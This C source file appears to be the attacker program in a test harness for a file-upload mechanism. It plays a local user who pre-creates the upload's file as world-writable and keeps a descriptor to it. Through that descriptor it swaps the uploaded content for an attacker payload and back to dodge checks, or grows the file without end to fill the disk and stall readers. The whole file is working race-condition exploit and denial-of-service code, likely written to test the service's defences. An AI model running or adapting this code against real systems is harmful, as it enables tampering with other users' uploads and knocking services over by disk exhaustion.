/*
 * The local user who keeps a descriptor of an upload, and writes through it.
 *
 *   holder TALLY overwrite|grow nowrite|any TARGET PAYLOAD
 *
 * overwrite  writes what it wants installed, and later what was there before
 * grow       makes the file 200 GiB, or longer and longer without an end
 * nowrite    makes the upload's file itself, for all to write, and acts when a reader closes it
 * any        opens the upload as soon as it may, and acts at moments spread over the time that it lies there
 */
#include "moments.h"

static int grows, at_look;

/* The descriptor, what was in the file before it wrote there, and the number of the file that it made itself. */
static int kept = -1;
static char *original;
static ino_t own;

static void keep(int fd) {
  if (kept >= 0) close(kept);
  kept = fd;
  free(original);
  original = NULL;
}

/* Makes the upload's file before the upload does. */
static void make(void) {
  if (!at_look && rand() % 2) return;
  int fd = open(target, O_RDWR | O_CREAT | O_EXCL, 0666);
  if (fd < 0) return;
  keep(fd);
  own = number_of(target);
}

static void take_hold(void) {
  struct stat held;
  if (kept >= 0 && fstat(kept, &held) == 0 && held.st_ino == number_of(target)) return;
  keep(open(target, O_RDWR | O_NOFOLLOW | O_NONBLOCK));
}

/* The upload in a private folder has the folder's name; who has its owner's uid may open it there already. */
static void take_hold_inside(const char *private) {
  char path[PATH_MAX * 2];
  snprintf(path, sizeof path, "%s/%s/%s", folder, private, private);
  for (int tries = 0; tries < 50; tries++) {
    int fd = open(path, O_RDWR | O_NOFOLLOW | O_NONBLOCK);
    if (fd >= 0) keep(fd);
    if (fd >= 0 || errno != ENOENT) return;
    wait_us(500);
  }
}

static int overwrite(void) {
  char now[64];
  size_t length = payload_size < sizeof now ? payload_size : sizeof now;
  if (!original) {
    char *found = malloc(payload_size);
    /* Nothing was uploaded yet. */
    if (!found || pread(kept, found, payload_size, 0) != (ssize_t)payload_size) {
      free(found);
      return 1;
    }
    original = found;
  }
  if (pread(kept, now, length, 0) != (ssize_t)length) return 0;
  int is_done = memcmp(now, payload, length) == 0;
  if (pwrite(kept, is_done ? original : payload, payload_size, 0) < 0) return 0;
  did();
  return 1;
}

/*
 * A file without an end: whoever reads it is never done, and whoever copies it fills the disk. What lies far enough
 * behind is given back, so that it is not this program that does.
 */
static int grow(void) {
  static char block[1 << 16];
  const off_t lead = 64 << 20, sparse = 200LL << 30;
  struct stat st;
  if (fstat(kept, &st) < 0 || st.st_size == 0 || st.st_size > lead) return 0;
  did();
  if (rand() % 2 && ftruncate(kept, sparse) == 0) return 0;
  off_t end = st.st_size;
  for (int blocks = 0; blocks < 100000; blocks++, end += sizeof block) {
    if (pwrite(kept, block, sizeof block, end) < 0) return 0;
    if (end > lead) fallocate(kept, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, end - lead, sizeof block);
    if (fstat(kept, &st) < 0 || st.st_nlink == 0) return 0;
    /* Faster than anybody reads, and not so busy that its turn comes late for the next upload. */
    if (blocks % 16 == 0) wait_us(200);
  }
  return 0;
}

static int act(void) { return kept >= 0 && (grows ? grow() : overwrite()); }

static void looked(void) { act(); }

static int is_own(ino_t number) { return number == own; }

int main(int argc, char **argv) {
  if (argc != 6) return 2;
  begin(argv[1], argv[4]);
  grows = strcmp(argv[2], "grow") == 0;
  at_look = strcmp(argv[3], "nowrite") == 0;
  load(argv[5]);
  make();
  const struct attack how = {
      .arrived = at_look ? NULL : take_hold,
      .act = at_look ? NULL : act,
      .gone = make,
      .looked = at_look ? looked : NULL,
      .made = at_look ? NULL : take_hold_inside,
      .is_own = is_own,
  };
  attack(&how);
}
